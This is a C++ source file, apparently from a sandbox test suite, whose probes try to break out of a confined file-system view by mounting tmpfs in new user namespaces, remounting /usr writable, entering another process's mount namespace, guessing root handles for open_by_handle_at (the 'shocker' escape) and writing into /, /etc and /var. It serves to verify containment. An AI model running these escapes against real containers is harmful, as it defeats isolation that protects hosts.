// Attacks on the box's view of file systems: mounting, remounting, entering the host's namespace,
// opening files by handles that no path leads to.

#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>

#include "util.h"

namespace ringfence::probe {
namespace {

Outcome AttackMount(const Input& /*input*/) {
  return InChild([]() -> Outcome {
    if (mount("none", "/tmp", "tmpfs", 0, "size=4k") == 0) {
      return Leaked(0, "a file system was mounted");
    }
    const int direct = errno;
    // As root of namespaces of our own, which anyone may make where nothing stands against it.
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
      return Held("mount: " + Words(direct) + "; unshare: " + Words(errno));
    }
    if (mount("none", "/tmp", "tmpfs", 0, "size=4k") == 0) {
      return Leaked(0, "a file system was mounted, as root of a new user namespace");
    }
    return Refused("mount in a new namespace", errno);
  });
}

Outcome AttackRemount(const Input& /*input*/) {
  if (mount(nullptr, "/usr", nullptr, MS_REMOUNT | MS_BIND, nullptr) != 0) {
    return Refused("mount(MS_REMOUNT) of /usr", errno);
  }
  struct statvfs facts{};
  if (statvfs("/usr", &facts) != 0 || (facts.f_flag & ST_RDONLY) != 0) {
    return Held("/usr was mounted again and is still read-only");
  }
  return Leaked(0, "the host's /usr was made writable in the box");
}

constexpr const char* kHomeFile = "/home/job/ringfence-probe";

void PlantInHome(Victim& victim) {
  if (!WriteFile(kHomeFile, victim.secret)) {
    victim.CouldNotPlant("open", errno);
  }
}

Outcome AttackSetns(const Input& input) {
  const Target target = FindVictim(input);
  if (target.pid == 0) {
    return NotVisible(target);
  }
  return InChild([&]() -> Outcome {
    const std::string path = "/proc/" + std::to_string(target.pid) + "/ns/mnt";
    const Fd theirs(open(path.c_str(), O_RDONLY | O_CLOEXEC));
    if (!theirs.ok()) {
      return Refused(path, errno);
    }
    if (setns(theirs.get(), CLONE_NEWNS) != 0) {
      return Refused("setns", errno, {ENOSYS});
    }
    std::string bytes;
    return ReadFile(kHomeFile, 64, bytes) && input.IsSecret(bytes)
               ? Leaked(bytes.size(), "its mount namespace was entered, and its file read")
               : Held("its mount namespace was entered, and its file is not there");
  });
}

// The way of "shocker": the handle of a file system's root is easily guessed.
Outcome AttackHandle(const Input& /*input*/) {
  alignas(file_handle) char space[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
  auto* const handle = reinterpret_cast<file_handle*>(space);
  handle->handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (name_to_handle_at(AT_FDCWD, "/usr", handle, &mount_id, 0) != 0) {
    return Refused("name_to_handle_at", errno, {ENOSYS, EOPNOTSUPP});
  }
  constexpr int kInodeAndGeneration = 1;
  if (handle->handle_type != kInodeAndGeneration || handle->handle_bytes != 8) {
    return CannotTry("the file system of /usr has handles of another kind than ext4 and XFS");
  }
  const Fd usr(open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  if (!usr.ok()) {
    return Refused("/usr", errno);
  }
  int error = 0;
  for (const std::uint32_t inode : {2U, 64U, 96U, 128U}) {  // ext4; XFS by its block size
    const std::uint32_t words[2] = {inode, 0};
    std::memcpy(handle->f_handle, words, sizeof words);
    const Fd root(open_by_handle_at(usr.get(), handle, O_RDONLY | O_DIRECTORY));
    if (root.ok()) {
      struct stat own{};
      struct stat found{};
      if (fstat(usr.get(), &own) == 0 && fstat(root.get(), &found) == 0 &&
          own.st_ino != found.st_ino && own.st_dev == found.st_dev) {
        return Leaked(0, "the root of the host's file system was opened by its handle");
      }
    } else {
      error = errno == ESTALE ? error : errno;
    }
  }
  return error == 0 ? CannotTry("no guessed handle is that of a root")
                    : Refused("open_by_handle_at", error);
}

Outcome AttackWriteRoot(const Input& /*input*/) {
  int error = 0;
  for (const char* path : {"/ringfence-probe", "/etc/ringfence-probe", "/var/ringfence-probe"}) {
    if (WriteFile(path, "x")) {
      (void)unlink(path);
      return Leaked(0, std::string("a file was made outside of the job's own folders: ") + path);
    }
    error = errno;
  }
  return Refused("a file in /, /etc and /var", error);
}

constexpr Code kCodes[] = {
    {"mount", AttackMount},
    {"remount", AttackRemount},
    {"setns", AttackSetns, PlantInHome},
    {"open-by-handle", AttackHandle},
    {"write-root", AttackWriteRoot},
};

}  // namespace

std::span<const Code> MountAttacks() { return kCodes; }

}  // namespace ringfence::probe
